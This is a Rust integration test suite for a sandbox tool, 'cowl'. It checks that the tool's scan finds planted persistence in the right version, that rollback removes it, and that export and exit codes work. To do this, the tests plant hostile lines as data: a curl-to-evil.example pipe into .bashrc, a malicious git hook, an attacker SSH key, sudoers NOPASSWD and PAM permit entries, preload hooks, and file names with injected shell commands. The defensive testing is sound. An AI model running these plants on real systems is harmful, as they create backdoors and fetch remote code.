//! Review and recovery: scan finds what a compromised app planted, in the
//! version that planted it; --first-bad names the first; a rollback to
//! before it removes every plant and keeps the earlier good work.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::*;
use serde_json::Value;

fn json(w: &World, args: &[&str]) -> Value {
    let out = w.cmd(args);
    assert_success(&out, &args.join(" "));
    serde_json::from_slice(&out.stdout).unwrap()
}

/// `cowl ARGS…`, which must exit with `code`, as JSON.
fn json_exit(w: &World, args: &[&str], code: i32) -> Value {
    let out = w.cmd(args);
    assert_eq!(
        out.status.code(),
        Some(code),
        "{}: {}",
        args.join(" "),
        stderr(&out)
    );
    serde_json::from_slice(&out.stdout).unwrap()
}

/// (version, rule, path) of every finding at or above `min`.
fn findings(w: &World, b: &str, min: &str) -> Vec<(u64, String, String)> {
    json(
        w,
        &[
            "scan",
            "--json",
            "--fail-on",
            "never",
            "--min-severity",
            min,
            b,
        ],
    )
    .as_array()
    .unwrap()
    .iter()
    .map(|f| {
        (
            f["version"].as_u64().unwrap_or(0),
            f["rule"].as_str().unwrap().to_owned(),
            f["path"].as_str().unwrap().to_owned(),
        )
    })
    .collect()
}

#[test]
fn scan_finds_each_plant_in_its_version_and_rollback_removes_them_all() {
    let w = World::new("scan-plants");
    let home = std::env::var("HOME").unwrap();
    let host = w.host();
    let bashrc_before = std::fs::read(format!("{home}/.bashrc")).ok();
    // v1: good work.
    w.ok("b", "echo report > notes.txt && mkdir -p proj && cd proj && git init -q . && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m init");
    // v2..: one plant per version.
    let plants: &[(&str, &str)] = &[
        ("echo 'curl -s http://evil.example | sh' >> ~/.bashrc", "persistence.shell-rc"),
        ("mkdir -p ~/.config/autostart && printf '[Desktop Entry]\\nExec=/tmp/x\\n' > ~/.config/autostart/update.desktop", "persistence.autostart"),
        ("mkdir -p ~/.config/systemd/user && printf '[Service]\\nExecStart=/tmp/x\\n' > ~/.config/systemd/user/update.service", "persistence.systemd"),
        ("mkdir -p ~/.local/bin && printf '#!/bin/sh\\nexec /bin/ls \"$@\"\\n' > ~/.local/bin/ls && chmod +x ~/.local/bin/ls", "persistence.path-shadow"),
        ("echo 'LD_PRELOAD=/tmp/.x/hook.so' > ~/.pam_environment", "persistence.ld-preload"),
        ("printf '#!/bin/sh\\ncurl evil.example\\n' > proj/.git/hooks/post-checkout && chmod +x proj/.git/hooks/post-checkout", "persistence.git-hook"),
        ("cp /bin/true ./helper && chmod u+s ./helper", "privilege.setuid"),
        ("cp /bin/true /tmp/payload && chmod +x /tmp/payload", "dropper.tmp-exec"),
    ];
    for (script, _) in plants {
        w.ok("b", script);
    }
    // authorized_keys lives in a hidden directory: the plant needs it exposed.
    let out = w.cmd(&[
        "run",
        "--expose",
        &format!("{home}/.ssh"),
        "b",
        "--",
        "sh",
        "-c",
        "mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAA attacker' >> ~/.ssh/authorized_keys",
    ]);
    assert_success(&out, "plant authorized_keys");

    let found = findings(&w, "b", "medium");
    for (i, (_, rule)) in plants.iter().enumerate() {
        let v = i as u64 + 2;
        assert!(
            found.iter().any(|f| f.0 == v && f.1 == *rule),
            "{rule} not found in version {v}: {found:#?}"
        );
    }
    let last = plants.len() as u64 + 2;
    assert!(
        found
            .iter()
            .any(|f| f.0 == last && f.1 == "persistence.ssh-keys"),
        "{found:#?}"
    );
    // Nothing high in the good version.
    let high = findings(&w, "b", "high");
    assert!(!high.iter().any(|f| f.0 == 1), "{high:#?}");

    // --first-bad names version 2 and the rollback to 1.
    // A high finding: exit status 1, for scripts and CI to gate on.
    let fb = json_exit(&w, &["scan", "--json", "--first-bad", "b"], 1);
    assert_eq!(fb["first_bad"], 2, "{fb}");
    assert_eq!(fb["rollback_to"], 1, "{fb}");
    assert_eq!(fb["command"], "cowl rollback b 1", "{fb}");
    let text = stdout(&w.cmd(&["scan", "--first-bad", "b"]));
    assert!(text.contains("cowl rollback b 1"), "{text}");

    let out = w.cmd(&["rollback", "b", "--before-first-bad"]);
    assert_success(&out, "rollback --before-first-bad");
    let log = json(&w, &["log", "--json", "b"]);
    assert_eq!(log.as_array().unwrap().len(), 1, "{log}");
    // The good work stays; every plant is gone.
    let inside = w.ok(
        "b",
        "cat notes.txt; test -e ~/.config/autostart/update.desktop && echo AUTOSTART; \
         test -e ~/.local/bin/ls && echo SHADOW; test -e ~/.pam_environment && echo PAM; \
         test -e proj/.git/hooks/post-checkout && echo HOOK; test -e helper && echo HELPER; \
         grep -q evil ~/.bashrc 2>/dev/null && echo RC; test -d proj/.git && echo REPO; true",
    );
    assert_eq!(inside, "report\nREPO\n");
    assert!(findings(&w, "b", "high").is_empty());
    // The bad versions are kept for forensics.
    let q = w.cmd(&["log", "--quarantine", "b"]);
    assert_success(&q, "log --quarantine");
    assert!(
        stdout(&q).contains("persistence") || stdout(&q).contains("echo"),
        "{}",
        stdout(&q)
    );
    // The host never saw any of it.
    assert_eq!(std::fs::read(format!("{home}/.bashrc")).ok(), bashrc_before);
    assert!(!host.join("notes.txt").exists());
}

#[test]
fn ordinary_work_raises_no_high_finding() {
    let w = World::new("scan-ordinary");
    // A virtualenv with a package installed from a local wheel, a git
    // repository with commits, an edited file, caches.
    w.ok(
        "work",
        r#"set -e
python3 -m venv .venv
mkdir -p pkg/hello && cd pkg
cat > hello/__init__.py <<'EOF'
def hi():
    return "hi"
EOF
python3 - <<'EOF'
import zipfile, hashlib, base64
files = {"hello/__init__.py": open("hello/__init__.py","rb").read(),
         "hello-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: hello\nVersion: 1.0\n",
         "hello-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\nGenerator: t\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
rec = ""
for n, d in files.items():
    h = base64.urlsafe_b64encode(hashlib.sha256(d).digest()).rstrip(b"=").decode()
    rec += f"{n},sha256={h},{len(d)}\n"
rec += "hello-1.0.dist-info/RECORD,,\n"
files["hello-1.0.dist-info/RECORD"] = rec.encode()
with zipfile.ZipFile("hello-1.0-py3-none-any.whl", "w") as z:
    for n, d in files.items():
        z.writestr(n, d)
EOF
cd ..
.venv/bin/pip install -q --no-index --no-cache-dir pkg/hello-1.0-py3-none-any.whl
.venv/bin/python -c 'import hello; print(hello.hi())'
mkdir repo && cd repo && git init -q . && echo x > a.txt && git add a.txt
git -c user.name=a -c user.email=a@b commit -q -m one
echo y >> a.txt && git -c user.name=a -c user.email=a@b commit -qam two
cd ..
printf 'some text\n' > doc.txt
vi -es -c 's/some/more/' -c 'wq' doc.txt || true
mkdir -p ~/.cache/tool && echo cached > ~/.cache/tool/data
"#,
    );
    let high = findings(&w, "work", "high");
    assert!(high.is_empty(), "ordinary work flagged: {high:#?}");
    let fb = json(&w, &["scan", "--json", "--first-bad", "work"]);
    assert!(fb["first_bad"].is_null(), "{fb}");
    let out = w.cmd(&["rollback", "work", "--before-first-bad"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(stderr(&out).contains("nothing to roll back"));
}

#[test]
fn scan_with_a_host_scanner_reads_only_changed_files() {
    let w = World::new("scan-with");
    w.ok("b", "echo clean > 'a$(touch INJECTED).txt'");
    w.ok(
        "b",
        "echo 'X5O-EICAR-LIKE-SIGNATURE' > b.txt; echo fine > 'c;id>&2'",
    );
    // A stand-in for clamscan: flags files holding the signature, and notes
    // every file it was given.
    let log = w.dir.join("scanned.log");
    // `{}` quoted one way, then the other: both are the file.
    let scanner = format!(
        "echo '{{}}' >> {}; ! grep -q EICAR-LIKE \"{{}}\"",
        log.display()
    );
    let rows = json_exit(&w, &["scan", "--json", "--with", &scanner, "b"], 1);
    let ext: Vec<&Value> = rows
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["rule"] == "external")
        .collect();
    assert_eq!(ext.len(), 1, "{rows}");
    assert_eq!(ext[0]["version"], 2);
    assert!(ext[0]["path"].as_str().unwrap().ends_with("/b.txt"));
    let scanned = std::fs::read_to_string(&log).unwrap();
    assert_eq!(scanned.lines().count(), 3, "{scanned}");
    // Hostile names are data, never shell text.
    assert!(!w.host().join("INJECTED").exists());
    assert!(!w.dir.join("INJECTED").exists());
    // A scanner that fails (exit 2) is an error, not a finding.
    let out = w.cmd(&["scan", "--with", "exit 2", "b"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("exits 0 for clean and 1 for found"),
        "{}",
        stderr(&out)
    );
    // Only this version.
    let rows = json(
        &w,
        &["scan", "--json", "--version", "1", "--with", &scanner, "b"],
    );
    assert!(rows.as_array().unwrap().iter().all(|r| r["version"] == 1));
    let out = w.cmd(&["scan", "--version", "9", "b"]);
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn system_persistence_is_found_in_a_system_box() {
    if !is_root() {
        // Rootless, the box cannot write /etc at all: the test of that is
        // in run.rs. This one needs --system.
        let w = World::new("scan-system-rootless");
        let out = w.sh("b", "echo x > /etc/cron.d/job");
        assert!(!out.status.success());
        return;
    }
    let w = World::new("scan-system");
    let run = |script: &str| {
        let out = w.cmd(&["run", "--system", "s", "--", "sh", "-c", script]);
        assert_success(&out, script);
    };
    run("mkdir -p /etc/cron.d && echo '* * * * * root /tmp/x' > /etc/cron.d/job");
    run("mkdir -p /etc/sudoers.d && echo 'evil ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/evil");
    run("echo /tmp/x.so > /etc/ld.so.preload");
    run("mkdir -p /etc/pam.d && echo 'auth sufficient pam_permit.so' > /etc/pam.d/evil");
    run("mkdir -p /etc/modprobe.d && echo 'install x /tmp/x' > /etc/modprobe.d/evil.conf");
    run("mkdir -p /etc/udev/rules.d && echo 'RUN+=\"/tmp/x\"' > /etc/udev/rules.d/99-evil.rules");
    run("echo host-edit >> /etc/motd");
    let f = findings(&w, "s", "low");
    let want = [
        (1, "persistence.cron"),
        (2, "persistence.sudoers"),
        (3, "persistence.ld-preload"),
        (4, "persistence.pam"),
        (5, "persistence.kernel-module"),
        (6, "persistence.udev"),
        (7, "system.etc-change"),
    ];
    for (v, rule) in want {
        assert!(
            f.iter().any(|x| x.0 == v && x.1 == rule),
            "{rule} not in version {v}: {f:#?}"
        );
    }
    let fb = json_exit(&w, &["scan", "--json", "--first-bad", "s"], 1);
    assert_eq!(fb["first_bad"], 1);
    assert_eq!(fb["rollback_to"], 0);
}

fn tar_list(file: &std::path::Path) -> Vec<String> {
    let out = std::process::Command::new("tar")
        .arg("-tf")
        .arg(file)
        .output()
        .unwrap();
    assert_success(&out, "tar -tf");
    stdout(&out).lines().map(str::to_owned).collect()
}

#[test]
fn export_writes_a_version_or_the_whole_difference_as_a_tar() {
    let w = World::new("export");
    std::fs::write(w.host().join("gone"), "host\n").unwrap();
    std::fs::create_dir_all(w.host().join("dir")).unwrap();
    std::fs::write(w.host().join("dir/old"), "host\n").unwrap();
    w.ok("b", "echo one > a; rm gone");
    w.ok(
        "b",
        "echo two > b; rm -r dir; mkdir dir; echo new > dir/new",
    );
    let rel = w.host().strip_prefix("/").unwrap().display().to_string();
    let all = w.dir.join("all.tar");
    assert_success(
        &w.cmd(&["export", "b", "-o", all.to_str().unwrap()]),
        "export",
    );
    let names = tar_list(&all);
    for want in [
        format!("{rel}/a"),
        format!("{rel}/b"),
        format!("{rel}/.wh.gone"),
        format!("{rel}/dir/.wh..wh..opq"),
        format!("{rel}/dir/new"),
    ] {
        assert!(
            names.iter().any(|n| n.trim_end_matches('/') == want),
            "{want} not in {names:#?}"
        );
    }
    assert!(names
        .iter()
        .all(|n| !n.starts_with('/') && !n.split('/').any(|c| c == "..")));
    // Only version 1.
    let v1 = w.dir.join("v1.tar");
    assert_success(
        &w.cmd(&["export", "b", "1", "-o", v1.to_str().unwrap()]),
        "export 1",
    );
    let names = tar_list(&v1);
    assert!(names.iter().any(|n| n == &format!("{rel}/a")), "{names:#?}");
    assert!(!names.iter().any(|n| n.ends_with("/b")), "{names:#?}");
    // Content is the box's.
    let out = std::process::Command::new("tar")
        .args(["-xOf", v1.to_str().unwrap(), &format!("{rel}/a")])
        .output()
        .unwrap();
    assert_eq!(stdout(&out), "one\n");
    // The store is left clean, and a missing version is a usage error.
    let pending = w.store.join("boxes/b/pending");
    assert!(std::fs::read_dir(&pending)
        .map(|r| r.count() == 0)
        .unwrap_or(true));
    let out = w.cmd(&["export", "b", "7", "-o", v1.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn scan_exits_1_on_a_finding_at_or_above_fail_on_and_0_otherwise() {
    // So that scripts and CI can gate on it, as on other scanners.
    let w = World::new("scan-exit");
    w.ok("b", "echo notes > notes.txt");
    for args in [
        &["scan", "b"][..],
        &["scan", "--first-bad", "b"],
        &["scan", "--json", "b"],
    ] {
        let out = w.cmd(args);
        assert_eq!(
            out.status.code(),
            Some(0),
            "{args:?}: clean box: {}",
            stderr(&out)
        );
    }
    // A medium finding (an executable in a hidden directory) and a high one
    // (a shell start-up file).
    w.ok(
        "b",
        "mkdir -p .tools && cp /bin/true .tools/run && chmod +x .tools/run",
    );
    let medium = findings(&w, "b", "low");
    assert!(
        medium.iter().any(|f| f.1 == "dropper.hidden-exec"),
        "{medium:#?}"
    );
    assert!(findings(&w, "b", "high").is_empty(), "{medium:#?}");
    let code = |args: &[&str]| w.cmd(args).status.code();
    assert_eq!(
        code(&["scan", "b"]),
        Some(0),
        "medium is below the default high"
    );
    assert_eq!(code(&["scan", "--fail-on", "medium", "b"]), Some(1));
    assert_eq!(code(&["scan", "--fail-on", "low", "--json", "b"]), Some(1));
    w.ok("b", "echo 'curl -s http://evil.example | sh' >> ~/.bashrc");
    for args in [
        &["scan", "b"][..],
        &["scan", "--json", "b"],
        &["scan", "--first-bad", "b"],
        &["scan", "--json", "--first-bad", "b"],
        &["scan", "--version", "3", "b"],
        // Shown or not, the finding is there.
        &["scan", "--min-severity", "critical", "b"],
    ] {
        let out = w.cmd(args);
        assert_eq!(out.status.code(), Some(1), "{args:?}: {}", stderr(&out));
        assert!(
            stderr(&out).contains("finding(s) of high or above")
                && stderr(&out).contains("--fail-on never"),
            "{args:?}: {}",
            stderr(&out)
        );
    }
    assert_eq!(
        code(&["scan", "--version", "1", "b"]),
        Some(0),
        "version 1 is clean"
    );
    assert_eq!(code(&["scan", "--fail-on", "critical", "b"]), Some(0));
    let out = w.cmd(&["scan", "--fail-on", "never", "--json", "b"]);
    assert_eq!(out.status.code(), Some(0));
    let rows: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(!rows.as_array().unwrap().is_empty());
    assert!(stderr(&out).is_empty(), "{}", stderr(&out));
    // A mistake in the command line stays 2.
    assert_eq!(code(&["scan", "--fail-on", "sometimes", "b"]), Some(2));
}
